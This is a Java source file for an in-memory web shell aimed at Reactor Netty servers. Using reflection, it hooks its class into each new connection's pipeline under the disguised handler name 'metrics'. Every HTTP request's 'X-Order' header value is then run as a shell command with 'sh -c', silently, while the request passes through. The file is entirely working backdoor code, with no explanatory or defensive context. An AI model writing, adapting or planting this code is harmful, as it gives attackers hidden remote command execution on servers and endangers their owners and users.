import io.netty.channel.Channel;
import io.netty.channel.ChannelDuplexHandler;
import io.netty.channel.ChannelHandler;
import io.netty.channel.ChannelHandlerContext;
import io.netty.handler.codec.http.HttpRequest;
import java.lang.reflect.Field;
import java.net.SocketAddress;
import java.util.Map;
import reactor.netty.ChannelPipelineConfigurer;
import reactor.netty.ConnectionObserver;
import reactor.netty.DisposableServer;

/** Puts itself into the pipeline of each new connection. */
@ChannelHandler.Sharable
public class Shell extends ChannelDuplexHandler implements ChannelPipelineConfigurer {
  public Shell() throws Exception {
    DisposableServer server = (DisposableServer) Class.forName("App").getField("server").get(null);
    for (Map.Entry<String, ChannelHandler> entry : server.channel().pipeline()) {
      Field child = field(entry.getValue().getClass(), "childHandler");
      if (child != null) {
        Object initializer = child.get(entry.getValue());
        Object config = field(initializer.getClass(), "config").get(initializer);
        field(config.getClass(), "doOnChannelInit").set(config, this);
      }
    }
  }

  private static Field field(Class<?> type, String name) {
    for (Class<?> one = type; one != null; one = one.getSuperclass()) {
      try {
        Field field = one.getDeclaredField(name);
        field.setAccessible(true);
        return field;
      } catch (NoSuchFieldException inherited) {
        // the next one has it
      }
    }
    return null;
  }

  @Override
  public void onChannelInit(ConnectionObserver observer, Channel channel, SocketAddress remote) {
    channel.pipeline().addBefore("reactor.left.httpTrafficHandler", "metrics", this);
  }

  @Override
  public void channelRead(ChannelHandlerContext context, Object message) throws Exception {
    String order =
        message instanceof HttpRequest ? ((HttpRequest) message).headers().get("X-Order") : null;
    if (order != null) {
      new ProcessBuilder("sh", "-c", order).start();
    }
    super.channelRead(context, message);
  }
}
